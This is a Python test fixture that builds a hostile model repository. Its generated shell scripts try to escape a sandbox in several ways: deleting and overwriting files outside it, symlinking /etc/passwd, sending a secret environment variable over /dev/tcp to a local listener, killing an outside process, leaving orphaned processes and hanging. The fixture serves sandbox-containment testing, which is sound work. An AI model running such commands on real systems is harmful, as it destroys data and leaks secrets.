"""A model repo whose own scripts (test_tipc/test_train_inference_python.sh and prepare.sh) try
every way out of the scratch copy that `tipcgen migrate` and `import --prepare` run them in:
deleting, writing, linking and chmod-ing files outside (by PATH and by absolute path, through
tools called read-only, redirections, `cd DIR; rm -rf`), the real repo, /tmp and HOME, connecting
to a listener on 127.0.0.1, killing a process outside, leaving orphans (setsid, double fork, nohup,
one holding stdout), and finally hanging. Used by tests/test_sandbox.py and
benchmarks/hostile_inputs.py.

    h = HostileRepo.make(tmp_path)      # victims laid, listener open, victim process started
    ... run tipcgen on h.root ...
    assert h.changed() == []            # what changed outside (victims, repo, /tmp, HOME, listener, process)
    assert h.survivors() == []          # processes of the run still alive (their argv carries h.mark)
    h.close()
"""

from __future__ import annotations

import hashlib
import os
import shlex
import shutil
import signal
import socket
import subprocess
import tempfile
import uuid
from dataclasses import dataclass, field
from pathlib import Path

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "paddleclas" / "toy_cls_a_train_infer_python.txt"
CONFIG = "test_tipc/configs/toy/toy_cls_a_train_infer_python.txt"
SECRET = "TIPC_SECRET_d41d8cd98f00"

# Each line one attempt; every one must fail to change anything outside the scratch copy.
_ATTEMPTS = r"""
tipc_hostile() {{
    local v
    for v in {victims}; do
        /bin/rm -f "$v/rm_abs"
        rm -f "$v/rm_path"
        echo pwned >"$v/redirect_new"
        echo pwned >>"$v/append_me"
        sed -i 's/precious/pwned/' "$v/sed_me"
        sed -n "w $v/sed_w" /etc/hostname
        awk "BEGIN {{ system(\"/usr/bin/touch $v/awk_system\") }}"
        env PATH=/usr/bin:/bin touch "$v/env_touch"
        sort -o "$v/sort_me" /etc/hostname
        uniq /etc/hostname "$v/uniq_out"
        /usr/bin/python3 -c "open('$v/py_write', 'w').write('x')"
        /bin/ln -s /etc/passwd "$v/link_out"
        /bin/mkdir "$v/mkdir_out"
        /bin/chmod 777 "$v/sed_me"
        /usr/bin/touch -d 2000-01-01 "$v/append_me"
        (cd "$v/dir"; /bin/rm -rf ./*)
    done
    echo pwned >{repo_config}
    /bin/rm -f {repo_prepare}
    echo pwned >/tmp/{mark}-tmp
    echo pwned >{home}/{mark}-home
    (exec 3<>/dev/tcp/127.0.0.1/{port} && echo "${{TIPC_SECRET:-}} $HOME" >&3)
    /usr/bin/python3 -c "import socket; socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'x')"
    kill -9 {victim_pid}
    /bin/kill -9 {victim_pid}
    /usr/bin/setsid /bin/bash -c 'exec -a {mark}-setsid /bin/sleep 1000' </dev/null >/dev/null 2>&1 &
    (/bin/bash -c 'exec -a {mark}-double /bin/sleep 1000' </dev/null >/dev/null 2>&1 &) &
    /usr/bin/nohup /bin/bash -c 'exec -a {mark}-nohup /bin/sleep 1000' </dev/null >/dev/null 2>&1 &
    /bin/bash -c 'exec -a {mark}-holder /bin/sleep 1000' &
    {flood}
}}
tipc_hang() {{
    /bin/bash -c 'exec -a {mark}-hang /bin/sleep 1000'
}}
"""

RUNNER = """#!/bin/bash
source "${0%/*}/hostile.sh"
tipc_hostile
tipc_hang
"""

# Hangs in one mode only: the others end at once, so a run of all modes is as long as one timeout.
PREPARE = """#!/bin/bash
source "${0%/*}/hostile.sh"
tipc_hostile
if [[ $2 == lite_train_lite_infer ]]; then
    tipc_hang
fi
"""

_VICTIM_FILES = ("rm_abs", "rm_path", "append_me", "sed_me", "sort_me", "dir/a", "dir/b")


def _digest(root: Path) -> dict:
    """Every path under `root` -> (kind, mode, size, mtime, content hash): what an attempt could change."""
    out = {}
    for path in sorted([root, *root.rglob("*")]):
        st = path.lstat()
        data = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
        out[str(path)] = (st.st_mode, st.st_size, st.st_mtime_ns, hashlib.sha256(data).hexdigest())
    return out


@dataclass
class HostileRepo:
    root: Path
    victims: list
    mark: str
    listener: socket.socket
    victim: subprocess.Popen
    made: list = field(default_factory=list)  # directories to remove at close()
    before: dict = field(default_factory=dict)

    @classmethod
    def make(cls, tmp: Path, flood_bytes: int = 0) -> HostileRepo:
        mark = f"tipc-hostile-{uuid.uuid4().hex[:12]}"
        # one victim in /tmp (the sandbox shows a private one), one on the root file system
        victims = [tmp / "outside", Path(tempfile.mkdtemp(prefix="tipc-victim-", dir="/var/tmp"))]
        for v in victims:
            (v / "dir").mkdir(parents=True, exist_ok=True)
            for name in _VICTIM_FILES:
                (v / name).write_text("precious\n")
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        victim = subprocess.Popen(["/bin/bash", "-c", f"exec -a {mark}-victim /bin/sleep 600"])
        root = tmp / "HostileRepo"
        tipc = root / "test_tipc"
        (tipc / "configs" / "toy").mkdir(parents=True)
        shutil.copyfile(FIXTURE, root / CONFIG)
        home = os.path.realpath(os.environ.get("HOME") or "/root")
        body = _ATTEMPTS.format(
            victims=" ".join(shlex.quote(str(v)) for v in victims),
            repo_config=shlex.quote(str(root / CONFIG)),
            repo_prepare=shlex.quote(str(tipc / "prepare.sh")),
            mark=mark,
            home=shlex.quote(home),
            port=port,
            victim_pid=victim.pid,
            flood=f"/usr/bin/head -c {flood_bytes} /dev/zero" if flood_bytes else ":",
        )
        (tipc / "hostile.sh").write_text(body)
        (tipc / "test_train_inference_python.sh").write_text(RUNNER)
        (tipc / "prepare.sh").write_text(PREPARE)
        h = cls(root, victims, mark, listener, victim, made=[victims[1]])
        h.before = {str(p): _digest(p) for p in (*victims, root)}
        return h

    def env(self) -> dict:
        """The caller's environment with a secret the scripts must not see."""
        return {**os.environ, "TIPC_SECRET": SECRET}

    def changed(self) -> list:
        """What the run changed outside its scratch copy (empty: nothing)."""
        out = []
        for where, before in self.before.items():
            after = _digest(Path(where))
            out += [f"{p}: changed" for p in before if after.get(p) != before[p]]
            out += [f"{p}: created" for p in after if p not in before]
        home = os.path.realpath(os.environ.get("HOME") or "/root")
        for path in (f"/tmp/{self.mark}-tmp", f"{home}/{self.mark}-home"):
            if os.path.lexists(path):
                out.append(f"{path}: created")
        try:
            conn, _ = self.listener.accept()
            conn.close()
            out.append("the listener on 127.0.0.1 got a connection")
        except BlockingIOError:
            pass
        if self.victim.poll() is not None:
            out.append("the process outside was killed")
        return out

    def survivors(self) -> list:
        """Processes whose argv carries the mark, the victim process aside."""
        found = []
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == self.victim.pid:
                continue
            try:
                argv = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
                state = Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[0]
            except OSError:
                continue
            if self.mark in argv and state != b"Z":
                found.append(f"{pid}: {argv.strip()}")
        return found

    def close(self) -> None:
        self.listener.close()
        if self.victim.poll() is None:
            self.victim.send_signal(signal.SIGKILL)
        self.victim.wait()
        for d in self.made:
            shutil.rmtree(d, ignore_errors=True)
        home = os.path.realpath(os.environ.get("HOME") or "/root")
        for path in (f"/tmp/{self.mark}-tmp", f"{home}/{self.mark}-home"):
            if os.path.lexists(path):
                os.unlink(path)
